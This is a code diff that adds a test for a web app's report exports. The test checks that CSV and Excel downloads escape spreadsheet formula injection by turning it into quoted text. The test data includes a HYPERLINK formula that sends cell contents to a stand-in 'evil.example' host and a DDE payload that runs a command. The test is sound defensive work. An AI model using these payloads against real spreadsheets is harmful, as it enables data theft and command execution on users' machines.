@@ -270,3 +270,29 @@ def test_event_page_query_count_does_not_grow_with_recommendations(
             event.recommendations)
         found.append(counter.count)
     assert found[0] == found[1]
+
+
+def test_text_that_would_run_as_a_formula_stays_text_in_every_export(
+        client: Any, login_as: Any, session: Any) -> None:
+    import openpyxl
+
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    event = EventFactory(title=formula, city="+cmd|' /C calc'!A0", start_date=AS_OF.replace(
+        year=AS_OF.year - 2), end_date=AS_OF.replace(year=AS_OF.year - 2))
+    RecommendationFactory(event=event)
+    session.commit()
+    login_as(Role.MANAGER)
+    body = client.get(f"/followup/report.csv?as_of={AS_OF}").get_data(as_text=True)
+    rows = [r for r in csv.DictReader(io.StringIO(body)) if r["event_id"] == str(event.id)]
+    assert rows and rows[0]["title"] == "'" + formula
+    assert rows[0]["city"].startswith("'+cmd")
+    book = openpyxl.load_workbook(io.BytesIO(client.get(
+        f"/followup/report.xlsx?as_of={AS_OF}&q=evil").data))
+    cells = [c for row in book.worksheets[0].iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    assert any(c.value == "'" + formula for c in cells)
+    about = [c for row in book.worksheets[1].iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in about)
+    book = openpyxl.load_workbook(io.BytesIO(client.get(
+        f"/followup/report.xlsx?as_of={AS_OF}&q=%3D1%2B2").data))
+    assert any(c.value == "'=1+2" for row in book.worksheets[1].iter_rows() for c in row)
